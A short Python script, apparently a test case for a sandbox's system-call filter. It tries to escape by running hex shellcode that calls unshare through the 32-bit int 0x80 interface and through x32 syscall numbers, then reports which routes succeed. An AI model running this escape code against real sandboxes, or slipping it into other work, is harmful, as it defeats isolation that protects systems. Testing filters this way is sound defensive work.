# tries: the same forbidden calls by other doors: 32-bit system calls, and x32 numbers
# fails: a filter that looks at numbers looks at the architecture first
# goal: leave
# stopped from: T1
# undefended: leak: the doors that are open
import ctypes
import errno
import mmap
import os

UNSHARE_32, USER = 310, 0x10000000
# push rbx; mov eax, 310; mov ebx, 0x10000000; int 0x80; pop rbx; ret
CODE = bytes.fromhex("53b836010000bb00000010cd805bc3")


def attack(*arguments, **keywords):
    if os.uname().machine != "x86_64":
        raise RuntimeError("the code is that of another machine")
    through = []
    for door in (by_interrupt, by_x32):
        process = os.fork()
        if not process:
            os._exit(42 if door() else 0)
        if os.waitstatus_to_exitcode(os.waitpid(process, 0)[1]) == 42:
            through.append(f"@mark@ got out: {door.__name__}")
    raise RuntimeError(f"through {through}")


def by_interrupt():
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)() == 0


def by_x32():
    c = ctypes.CDLL(None, use_errno=True)
    return c.syscall(0x40000000 | 272, USER) == 0 or ctypes.get_errno() == errno.EINVAL
